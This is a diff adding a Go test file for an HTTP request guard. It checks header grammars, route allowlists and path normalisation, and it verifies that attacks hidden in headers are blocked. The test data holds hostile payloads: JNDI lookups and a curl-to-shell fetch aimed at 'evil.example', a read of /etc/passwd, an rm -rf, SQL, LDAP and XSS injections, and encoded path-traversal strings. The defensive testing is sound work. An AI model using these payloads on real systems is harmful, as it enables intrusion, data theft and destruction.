@@ -1,0 +1,169 @@
+package guard
+
+import (
+	"context"
+	"testing"
+)
+
+// TestHeaderPolicy: every header is inspected; values that conform to their
+// header's grammar pass, and attacks placed in headers that used to be
+// skipped are found.
+func TestHeaderPolicy(t *testing.T) {
+	g, _ := newTestGuard(t)
+	benign := []Param{
+		{"accept", "*/*"},
+		{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
+		{"accept", "application/json, text/plain, */*"},
+		{"accept", `multipart/mixed; boundary="graphql"; subscriptionSpec="1.0", application/json`},
+		{"accept-encoding", "gzip, deflate, br, zstd"},
+		{"accept-encoding", "*;q=0"},
+		{"accept-language", "en-US,en;q=0.9,fr-CA;q=0.7,*;q=0.5"},
+		{"accept-language", "zh-Hant-TW, es-419"},
+		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
+		{"tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"},
+		{"x-request-id", "4f8c2a1e-7b3d-4e59-9a61-2c0d8e5f1b77"},
+		{"x-amzn-trace-id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1"},
+		{"x-cloud-trace-context", "105445aa7843bc8bf206b12000100000/1;o=1"},
+		{"x-forwarded-proto", "https"},
+		{"x-forwarded-port", "443"},
+		{"content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
+		{"host", "127.0.0.1:8080"},
+		{"host", "localhost"},
+		{"host", "[::1]:8443"},
+	}
+	for _, h := range benign {
+		t.Run("benign "+h.Name+" "+h.Value, func(t *testing.T) {
+			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{h} }))
+			if d.Action != ActionAllow {
+				t.Fatalf("benign header refused: %+v", d)
+			}
+		})
+	}
+	attacks := []struct {
+		h   Param
+		cat Category
+	}{
+		{Param{"accept", "*/*;q=0.8, ${jndi:ldap://evil.example/a}"}, JNDI},
+		{Param{"accept", "*/*)(uid=*))(|(uid=*"}, LDAPi},
+		{Param{"accept-language", "en-US' OR '1'='1' -- "}, SQLi},
+		{Param{"accept-encoding", "gzip; cat /etc/passwd"}, CmdI},
+		{Param{"x-request-id", "1' UNION SELECT password FROM users--"}, SQLi},
+		{Param{"x-forwarded-proto", "https<script>alert(1)</script>"}, XSS},
+		{Param{"traceparent", "00-${jndi:ldap://evil.example/x}-b7ad6b7169203331-01"}, JNDI},
+		{Param{"tracestate", "vendor=$(curl evil.example|sh)"}, CmdI},
+		{Param{"content-length", "0; rm -rf /tmp/x"}, CmdI},
+		{Param{"host", "shop.example';DROP TABLE users;--"}, SQLi},
+	}
+	for _, tc := range attacks {
+		t.Run("attack "+tc.h.Name, func(t *testing.T) {
+			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{tc.h} }))
+			if d.Action != ActionBlock || findingAt(d, "headers."+tc.h.Name, tc.cat) == nil {
+				t.Fatalf("attack in %s not blocked as %s: %+v", tc.h.Name, tc.cat, d)
+			}
+		})
+	}
+}
+
+func TestHeaderGrammar(t *testing.T) {
+	cases := []struct {
+		name, v string
+		want    bool
+	}{
+		{"accept", "*/*", true},
+		{"accept", "*/json", false},
+		{"accept", "text/html;level=1;q=0.5", true},
+		{"accept", "text/html;q=", false},
+		{"accept", "", false},
+		{"accept", ",", false},
+		{"accept", "text/html; x=\"a'b\"", false},
+		{"accept-language", "de-CH-1996", true},
+		{"accept-language", "123", false},
+		{"accept-language", "abcdefghi", false},
+		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", true},
+		{"traceparent", "00-0AF7651916CD43DD8448EB211C80319C-b7ad6b7169203331-01", false},
+		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331", false},
+		{"x-request-id", "a;;b", false},
+		{"x-request-id", "abc def", false},
+		{"host", "[::1", false},
+		{"host", "a.example:80x", false},
+		{"user-agent", "curl/8.5.0", false}, // no grammar: always inspected
+	}
+	for _, tc := range cases {
+		t.Run(tc.name+" "+tc.v, func(t *testing.T) {
+			if got := headerConforms(tc.name, tc.v); got != tc.want {
+				t.Fatalf("headerConforms(%q, %q) = %v, want %v", tc.name, tc.v, got, tc.want)
+			}
+		})
+	}
+}
+
+// TestRouteDecoded: the route allowlist judges the path the handler routes
+// on, decoded and normalised.
+func TestRouteDecoded(t *testing.T) {
+	g, _ := newTestGuard(t, WithAllowRoutes("POST /orders/{id}", "GET /health"))
+	cases := []struct {
+		name    string
+		route   string
+		path    string
+		params  []Param
+		allowed bool
+	}{
+		{"plain", "", "/orders/42", nil, true},
+		{"encoded slash", "", "/orders/1%2fdelete", nil, false},
+		{"encoded dot-dot", "", "/orders/..%2fadmin", nil, false},
+		{"dot-dot", "", "/orders/1/../../admin", nil, false},
+		{"empty param", "", "/orders/", nil, false},
+		{"double slash", "", "//orders//42", nil, true},
+		{"dot segment", "", "/orders/./42", nil, true},
+		{"encoded letters", "", "/orders/%34%32", nil, true},
+		{"case", "", "/ORDERS/42", nil, false},
+		{"REST resource", "/orders/{id}", "/orders/42", []Param{{"id", "42"}}, true},
+		{"REST resource, decoded slash in param", "/orders/{id}", "/orders/1%2fdelete", []Param{{"id", "1/delete"}}, false},
+		{"REST resource, dot-dot param", "/orders/{id}", "/orders/..%2fadmin", []Param{{"id", "../admin"}}, false},
+		{"REST resource, empty param", "/orders/{id}", "/orders/", []Param{{"id", ""}}, false},
+		{"route key", "POST /orders/{id}", "/orders/7", []Param{{"id", "7"}}, true},
+		{"route key, slash in param", "POST /orders/{id}", "/orders/7%2Fcancel", []Param{{"id", "7/cancel"}}, false},
+		{"$default", "$default", "/orders/7", nil, true},
+		{"$default encoded", "$default", "/orders/7%2f..%2f..%2fadmin", nil, false},
+		{"proxy resource", "/{proxy+}", "/orders/7", []Param{{"proxy", "orders/7"}}, true},
+		{"proxy resource, traversal", "/{proxy+}", "/orders/..%2f..%2fadmin", []Param{{"proxy", "orders/../../admin"}}, false},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			inv := httpInv(func(i *Invocation) {
+				i.Method, i.Route, i.Path, i.PathParams = "POST", tc.route, tc.path, tc.params
+			})
+			d := g.Inspect(context.Background(), inv)
+			blockedByRoute := false
+			for _, f := range d.Findings {
+				if f.Rule == "allowlist.route" {
+					blockedByRoute = true
+				}
+			}
+			if blockedByRoute == tc.allowed {
+				t.Fatalf("path %q route %q: allowed=%v, want %v: %+v", tc.path, tc.route, !blockedByRoute, tc.allowed, d)
+			}
+		})
+	}
+}
+
+func TestNormalizePath(t *testing.T) {
+	for in, want := range map[string]string{
+		"/":                 "/",
+		"/a/b":              "/a/b",
+		"/a/b/":             "/a/b",
+		"/a//b":             "/a/b",
+		"/a/./b":            "/a/b",
+		"/a/../../b":        "/b",
+		"/a%2Fb":            "/a/b",
+		"/a/%2e%2e/b":       "/b",
+		"/a%zz":             "/a%zz",
+		"/%E2%9C%93":        "/\u2713",
+		"orders":            "/orders",
+		"/a/b/..%2F..%2Fc/": "/c",
+	} {
+		if got := normalizePath(in); got != want {
+			t.Errorf("normalizePath(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
